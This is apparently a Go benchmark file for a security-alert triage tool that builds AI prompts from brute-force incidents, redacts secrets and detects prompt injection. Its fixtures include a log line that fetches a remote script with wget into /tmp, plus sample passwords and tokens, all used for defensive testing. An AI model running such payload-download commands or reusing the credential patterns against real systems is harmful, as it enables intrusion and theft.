package triage

import (
	"fmt"
	"testing"
)

// benchIncident is a storm incident as the Grouper keeps it: 50 alerts of
// 10 events each, with some enrichment and a history of 5 verdicts.
func benchIncident(b *testing.B) (*Incident, *ContextStore) {
	log := &authLog{host: "LabSZ"}
	g := NewGrouper(GrouperConfig{})
	var inc *Incident
	for _, a := range bruteForceStorm(log, "183.62.140.253", t0, 500) {
		for _, e := range a.Vigil.Alert.Events {
			e.Set("source.geo.country_iso_code", "CN")
			e.Set("source.as.number", 4134)
			e.Set("process.command_line", "mysql -uroot -pHunter2secret -h 10.0.0.5 shop")
		}
		inc, _ = g.Add(a)
	}
	store := NewContextStore(0)
	for i := range 5 {
		past := *inc
		past.ID = fmt.Sprintf("past-%d", i)
		store.Remember(Verdict{Vigil: VerdictVigil{Incident: past}, Triage: Triage{Verdict: Suspicious, Summary: "Earlier brute force."}})
	}
	return inc, store
}

func BenchmarkPrompterBuild(b *testing.B) {
	inc, store := benchIncident(b)
	for _, bc := range []struct {
		name string
		cfg  PromptConfig
	}{
		{"no-budget", PromptConfig{Store: store}},
		{"budget-6000-counted", PromptConfig{Model: "gpt-4o-mini", TokenBudget: 6000, Store: store}},
		{"budget-2500-summarised", PromptConfig{Model: "gpt-4o-mini", TokenBudget: 2500, Store: store}},
		{"pseudonymize", PromptConfig{Store: store, Pseudonymize: true}},
	} {
		b.Run(bc.name, func(b *testing.B) {
			pr := mustPrompter(b, bc.cfg)
			b.ReportAllocs()
			n := 0
			for b.Loop() {
				if _, err := pr.Build(inc); err != nil {
					b.Fatal(err)
				}
				n++
			}
			b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "incidents/s")
		})
	}
}

func BenchmarkRedact(b *testing.B) {
	r, err := NewRedactor(RedactConfig{})
	if err != nil {
		b.Fatal(err)
	}
	lines := []string{
		"Failed password for invalid user admin from 203.0.113.45 port 36054 ssh2",
		"deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/wget -q http://198.51.100.23/x.sh -O /tmp/x.sh",
		"mysql -uroot -pHunter2secret -h 10.0.0.5 shop",
		`curl -H "Authorization: Bearer abcdefghijklmnop" https://u:p4ss@api.example.com/v1?token=xyz`,
	}
	b.ReportAllocs()
	n := 0
	for b.Loop() {
		for _, l := range lines {
			r.Redact(l)
		}
		n += len(lines)
	}
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "strings/s")
}

func BenchmarkDetectInjection(b *testing.B) {
	inc, _ := benchIncident(b)
	b.ReportAllocs()
	n := 0
	for b.Loop() {
		if DetectInjection(inc) {
			b.Fatal("clean incident flagged")
		}
		n++
	}
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "incidents/s")
}
